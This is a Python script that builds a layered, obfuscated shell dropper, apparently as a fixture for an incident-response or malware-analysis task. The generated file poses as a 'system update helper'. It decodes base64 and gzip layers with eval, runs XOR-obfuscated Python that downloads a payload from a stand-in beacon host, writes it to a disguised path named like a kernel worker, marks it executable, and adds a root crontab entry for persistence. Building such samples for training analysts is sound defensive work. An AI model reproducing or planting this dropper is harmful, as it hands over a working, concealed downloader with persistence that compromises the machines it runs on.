"""Builds the layered, obfuscated dropper /app/incident/suspicious.sh (image build time only).
Layers: bash eval(base64|gunzip) -> bash with python -c exec(zlib(b85)) -> python with XOR'd strings."""
import base64
import gzip
import zlib

URL = "http://update.cdn-metrics.example:8443/v2/beacon?id=7f3a"
DROP = "/var/tmp/.cache/kworkerd"
KEY = 0x5A


def xor_hex(s):
    return bytes(c ^ KEY for c in s.encode()).hex()


inner_py = f"""import os, urllib.request
k = {KEY}
d = lambda h: bytes(b ^ k for b in bytes.fromhex(h)).decode()
u = d('{xor_hex(URL)}')
p = d('{xor_hex(DROP)}')
open('/var/tmp/.payload_ran', 'w').write('1')
try:
    data = urllib.request.urlopen(u, timeout=3).read()
except Exception:
    data = b'#!/bin/sh\\nsleep 3600\\n'
os.makedirs(os.path.dirname(p), exist_ok=True)
open(p, 'wb').write(data)
os.chmod(p, 0o755)
"""
blob = base64.b85encode(zlib.compress(inner_py.encode(), 9)).decode()
cron_path_hex = "".join(f"\\x{b:02x}" for b in DROP.encode())
stage2 = f"""#!/bin/bash
python3 -c "import base64,zlib;exec(zlib.decompress(base64.b85decode('{blob}')))"
P=$(printf '{cron_path_hex}')
echo "*/7 * * * * root $P >/dev/null 2>&1" >> /etc/crontab
"""
b64 = base64.b64encode(gzip.compress(stage2.encode(), mtime=0)).decode()
lines = [b64[i:i + 76] for i in range(0, len(b64), 76)]
with open("/app/incident/suspicious.sh", "w") as fh:
    fh.write("#!/bin/bash\n# system update helper\n_x='\n" + "\n".join(lines) + "\n'\n")
    fh.write('eval "$(echo "$_x" | base64 -d | gunzip)"\n')
